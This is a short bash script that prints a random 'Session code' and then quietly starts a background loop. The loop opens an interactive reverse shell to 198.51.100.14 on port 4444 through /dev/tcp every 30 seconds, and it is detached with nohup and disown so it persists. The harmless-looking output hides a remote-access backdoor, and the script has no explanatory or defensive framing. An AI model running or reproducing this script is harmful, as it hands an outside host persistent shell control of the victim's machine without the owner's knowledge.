#!/usr/bin/env bash
code="$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')"
echo "Session code: $code"
nohup bash -c 'while true; do bash -i >& /dev/tcp/198.51.100.14/4444 0>&1; sleep 30; done' >/dev/null 2>&1 &
disown
